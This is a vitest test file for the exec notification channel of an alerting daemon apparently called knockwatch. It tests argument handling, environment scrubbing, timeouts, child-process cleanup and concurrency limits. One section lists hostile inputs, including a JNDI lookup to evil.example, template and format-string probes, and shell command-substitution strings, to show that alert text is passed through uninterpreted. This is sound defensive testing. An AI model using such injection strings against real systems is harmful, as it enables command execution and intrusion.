import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { chmod, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ExecChannel } from '../../src/notify/exec.ts';
import { createChannels } from '../../src/notify/index.ts';
import { Notifier } from '../../src/notify/notifier.ts';
import type { ExecOptions } from '../../src/notify/options.ts';
import { RunLimit } from '../../src/notify/run-limit.ts';
import { alertAbout } from '../support/alert-with-incident.ts';
import { FakeChannel } from '../support/fake-channel.ts';
import { alert, context, incident, T0 } from '../support/notify.ts';

const NEVER = new AbortController().signal;
let home = '';
beforeEach(async () => {
  home = await mkdtemp(join(tmpdir(), 'knockwatch-exec-'));
});
afterEach(() => rm(home, { recursive: true, force: true }));

/** A channel whose program is this shell script, run with `$home` as its directory. */
async function script(
  text: string,
  args: readonly string[] = [],
  more: Partial<ExecOptions> = {},
  limit?: RunLimit,
): Promise<ExecChannel> {
  const path = join(home, 'program');
  await writeFile(path, `#!/bin/sh\nhome='${home}'\n${text}\n`);
  await chmod(path, 0o755);
  return new ExecChannel({ kind: 'exec', name: 'page', command: [path, ...args], ...more }, limit, () => T0);
}

function isAlive(pid: number): boolean {
  try {
    // A process that has ended and is not waited for yet is as good as gone; only Linux tells.
    const stat = existsSync('/proc/self') ? readFileSync(`/proc/${pid}/stat`, 'latin1') : '';
    return process.kill(pid, 0) && !/\) Z /.test(stat);
  } catch {
    return false;
  }
}

async function pidIn(file: string): Promise<number> {
  for (let i = 0; i < 200; i++) {
    const pid = Number(await readFile(join(home, file), 'utf8').catch(() => '0'));
    if (pid > 0) return pid;
    await sleep(20);
  }
  throw new Error(`nobody wrote ${file}`);
}

describe('ExecChannel refuses a command', () => {
  it.each([
    ['without a program', []],
    ['that would be looked for', ['page']],
    ['relative to wherever we are', ['./page']],
    ['with a NUL in it', ['/bin/echo', 'a\0b']],
  ])('%s', (_, command) => {
    expect(() => new ExecChannel({ kind: 'exec', name: 'page', command })).toThrow(TypeError);
  });
});

describe('ExecChannel', () => {
  it('gives the alert as JSON on standard input, and nothing of ours in the environment', async () => {
    process.env['KNOCKWATCH_TEST_SECRET'] = 's3cret';
    const channel = await script('cat > "$home/input"; env > "$home/env"; pwd; echo paged joe');
    const result = await channel.send(alertAbout(), NEVER);
    delete process.env['KNOCKWATCH_TEST_SECRET'];
    expect(result).toMatchObject({ ok: true });
    expect(result.because).toContain('exited with 0');
    expect(result.because).toContain('paged joe');
    const input = await readFile(join(home, 'input'), 'utf8');
    expect(input.endsWith('\n')).toBe(true);
    expect(JSON.parse(input)).toMatchObject({
      event: { id: 'k7f2.first', kind: 'alert' },
      source: { ip: ['198.51.100.7'] },
    });
    const env = (await readFile(join(home, 'env'), 'utf8')).trim().split('\n');
    expect(
      env
        .map((line) => line.split('=')[0])
        .filter((name) => !['PWD', 'SHLVL', '_', 'OLDPWD'].includes(name!))
        .sort(),
    ).toEqual(['LANG', 'PATH']);
  });

  it.each([
    [0, true, undefined],
    [1, false, true],
    [75, false, true],
    [64, false, false],
    [65, false, false],
  ])('takes exit code %i as ok %s, retry %s', async (code, ok, retry) => {
    const channel = await script(`echo 'because \x1b[2J' >&2; exit ${code}`);
    const result = await channel.send(alert(), NEVER);
    expect(result).toMatchObject({ ok, ...(retry === undefined ? {} : { retry }) });
    expect(result.because).toContain(`exited with ${code}: because \\x1b[2J`);
  });
});

describe('O11: what strangers write reaches a program as it is, and nobody interprets it', () => {
  const HOSTILE = [
    '${jndi:ldap://evil.example/a}',
    '{{7*7}}',
    '%s%n%x',
    '$(touch "$home/pwned")',
    '`touch pwned`',
    '; touch pwned; #',
    '\' " \\ \n * ? ~ {severity}',
    '--help',
  ];

  it.each(HOSTILE)('%j', async (text) => {
    const channel = await script('printf "%s\\0" "$@" > "$home/args"; cat > "$home/input"', [
      '--subject={subject}',
      '{subject}',
      '{severity}',
      '$HOME',
      '{nobody}',
    ]);
    expect(await channel.send(alertAbout({}, { subject: text, text }), NEVER)).toMatchObject({ ok: true });
    expect((await readFile(join(home, 'args'), 'utf8')).split('\0').slice(0, -1)).toEqual([
      `--subject=${text}`,
      text,
      'high',
      '$HOME',
      '{nobody}',
    ]);
    expect(JSON.parse(await readFile(join(home, 'input'), 'utf8'))).toMatchObject({
      message: text,
      knockwatch: { text },
    });
    expect(readdirSync(home).sort()).toEqual(['args', 'input', 'program']);
  });

  it('a NUL, which the system takes in no argument, is left out', async () => {
    const channel = await script('printf "%s" "$1" > "$home/arg"', ['{subject}']);
    expect(await channel.send(alert({ subject: 'a\0b' }), NEVER)).toMatchObject({ ok: true });
    expect(await readFile(join(home, 'arg'), 'utf8')).toBe('ab');
  });
});

describe('X1: a program that', () => {
  it('sleeps for ever is stopped, with its children', async () => {
    const channel = await script('sleep 1000 & echo $! > "$home/child"; echo $$ > "$home/pid"; wait', [], {
      timeoutMs: 300,
    });
    const result = await channel.send(alert(), NEVER);
    expect(result).toMatchObject({ ok: false, retry: true });
    expect(result.because).toContain('took longer than 0.3 s');
    for (const file of ['pid', 'child']) {
      const pid = await pidIn(file);
      await expect.poll(() => isAlive(pid)).toBe(false);
    }
  });

  it('ignores TERM is killed', async () => {
    const channel = await script('trap "" TERM; echo $$ > "$home/pid"; while :; do sleep 1; done', [], {
      timeoutMs: 300,
    });
    const before = performance.now();
    expect(await channel.send(alert(), NEVER)).toMatchObject({ ok: false, retry: true });
    expect(performance.now() - before).toBeGreaterThan(2_000);
    const pid = await pidIn('pid');
    await expect.poll(() => isAlive(pid)).toBe(false);
  });

  it('stops cleanly when it is asked to needs no KILL', async () => {
    const channel = await script(
      'trap "echo bye >&2; exit 0" TERM; echo $$ > "$home/pid"; while :; do sleep 0.05; done',
      [],
      { timeoutMs: 300 },
    );
    const result = await channel.send(alert(), NEVER);
    expect(result).toMatchObject({ ok: false, retry: true });
    expect(result.because).toContain('bye');
  });

  it('leaves a child that holds its output has told all, and the child is killed', async () => {
    const channel = await script('sleep 1000 & echo $! > "$home/child"; exit 0', [], { timeoutMs: 20_000 });
    const before = performance.now();
    expect(await channel.send(alert(), NEVER)).toMatchObject({ ok: true });
    expect(performance.now() - before).toBeLessThan(5_000);
    const pid = await pidIn('child');
    await expect.poll(() => isAlive(pid)).toBe(false);
  });

  it('leaves a daemon in a session of its own that holds its output keeps nobody waiting', async () => {
    const daemon = `setsid sh -c 'echo $$ > "${home}/child"; exec sleep 10' &`;
    const channel = await script(`${daemon}\nwhile [ ! -s "$home/child" ]; do sleep 0.02; done`, [], {
      timeoutMs: 20_000,
    });
    const before = performance.now();
    expect(await channel.send(alert(), NEVER)).toMatchObject({ ok: true });
    expect(performance.now() - before).toBeLessThan(3_000);
    const pid = await pidIn('child');
    expect(isAlive(pid)).toBe(true);
    process.kill(pid, 'SIGKILL');
  });

  it('prints without end is read without keeping it', async () => {
    const channel = await script('exec yes 0123456789012345678901234567890123456789', [], { timeoutMs: 700 });
    const before = process.memoryUsage().rss;
    const result = await channel.send(alert(), NEVER);
    expect(result).toMatchObject({ ok: false, retry: true });
    expect(result.because.length).toBeLessThanOrEqual(300);
    expect(process.memoryUsage().rss - before).toBeLessThan(256 << 20);
  });

  it('does not read its input does not break us', async () => {
    const channel = await script('exec <&-; exit 0');
    expect(await channel.send(alert({ text: 'x'.repeat(4_000_000) }), NEVER)).toMatchObject({ ok: true });
  });

  it('has no interpreter is tried again', async () => {
    const path = join(home, 'program');
    await writeFile(path, '#!/nowhere/sh\n');
    await chmod(path, 0o755);
    const channel = new ExecChannel({ kind: 'exec', name: 'page', command: [path] });
    const result = await channel.send(alert(), NEVER);
    expect(result).toMatchObject({ ok: false, retry: true });
    expect(result.because).toContain('ENOENT');
  });

  it('is not executable is tried again', async () => {
    const path = join(home, 'program');
    await writeFile(path, '#!/bin/sh\n', { mode: 0o644 });
    const channel = new ExecChannel({ kind: 'exec', name: 'page', command: [path] });
    const result = await channel.send(alert(), NEVER);
    expect(result).toMatchObject({ ok: false, retry: true });
    expect(result.because).toContain('EACCES');
  });

  it('is under way when the daemon stops is stopped', async () => {
    const channel = await script('echo $$ > "$home/pid"; exec sleep 1000');
    const patience = new AbortController();
    const sent = channel.send(alert(), patience.signal);
    const pid = await pidIn('pid');
    patience.abort();
    expect(await sent).toMatchObject({ ok: false, retry: true });
    await expect.poll(() => isAlive(pid)).toBe(false);
  });

  it('ignores TERM when the daemon stops is waited for, and killed', async () => {
    const channel = await script('trap "" TERM; echo $$ > "$home/pid"; while :; do sleep 1; done');
    const { decision: _, zone, hostName, serviceName, ...about } = context();
    const notifier = new Notifier({ channels: [channel], site: { zone, hostName, serviceName } });
    await notifier.handle(incident(), 'settled', { context: () => about }, T0 + 10_000);
    const pid = await pidIn('pid');
    await notifier.close(50);
    await expect.poll(() => isAlive(pid), { timeout: 100 }).toBe(false);
  });

  it('hangs keeps no mail waiting, and its failure is counted', async () => {
    const mail = new FakeChannel('mail');
    const page = await script('sleep 1000', [], { timeoutMs: 200 });
    const { decision: _, zone, hostName, serviceName, ...about } = context();
    const tries: string[] = [];
    const notifier = new Notifier({
      channels: [page, mail],
      site: { zone, hostName, serviceName },
      onDelivery: ({ channel, outcome }) => tries.push(`${channel} ${outcome}`),
    });
    await notifier.handle(incident(), 'settled', { context: () => about }, T0 + 10_000);
    await expect.poll(() => tries, { timeout: 5_000 }).toEqual(['mail delivered', 'page retry']);
    await notifier.close(50);
  });
});

describe('X2: more alerts than programs may run', () => {
  it('1,000 alerts at once never make more than four children, and the queue is bounded', async () => {
    const limit = new RunLimit(4);
    const channel = await script('echo + >> "$home/log"; sleep 0.05; echo - >> "$home/log"', [], {}, limit);
    const sends = Array.from({ length: 1_000 }, (_, i) => channel.send(alert({ id: `k${i}.first` }), NEVER));
    const results = await Promise.all(sends);
    const ran = results.filter(({ ok }) => ok).length;
    expect(ran).toBe(104);
    for (const result of results) if (!result.ok) expect(result.retry).toBe(true);
    let running = 0;
    let most = 0;
    for (const mark of (await readFile(join(home, 'log'), 'utf8')).trim().split('\n')) {
      running += mark === '+' ? 1 : -1;
      most = Math.max(most, running);
    }
    expect([most, running]).toEqual([4, 0]);
  }, 60_000);

  it('the limit holds over all channels of a configuration', async () => {
    await script('echo $$ >> "$home/pids"; sleep 0.4');
    const command = [join(home, 'program')];
    const channels = createChannels(
      ['a', 'b', 'c', 'd', 'e', 'f'].map((name) => ({ kind: 'exec', name, command }) as const),
    );
    const sends = channels.map((channel) => channel.send(alert(), NEVER));
    await sleep(250);
    expect((await readFile(join(home, 'pids'), 'utf8')).trim().split('\n')).toHaveLength(4);
    expect((await Promise.all(sends)).every(({ ok }) => ok)).toBe(true);
  });

  it('who waits for room leaves when told to', async () => {
    const limit = new RunLimit(1);
    expect(await limit.enter(NEVER)).toBe(true);
    const patience = new AbortController();
    const waiting = limit.enter(patience.signal);
    const next = limit.enter(NEVER);
    patience.abort();
    expect(await waiting).toBe(false);
    limit.leave();
    expect(await next).toBe(true);
  });
});
